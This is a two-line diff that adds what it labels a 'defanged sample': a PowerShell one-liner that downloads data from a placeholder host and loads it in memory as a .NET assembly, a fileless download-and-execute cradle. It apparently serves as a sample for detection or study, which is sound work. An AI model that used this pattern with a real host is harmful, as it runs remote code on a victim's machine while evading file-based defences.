@@ -1,0 +1,2 @@
+# defanged sample
+[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('https://a.example.invalid/x'))
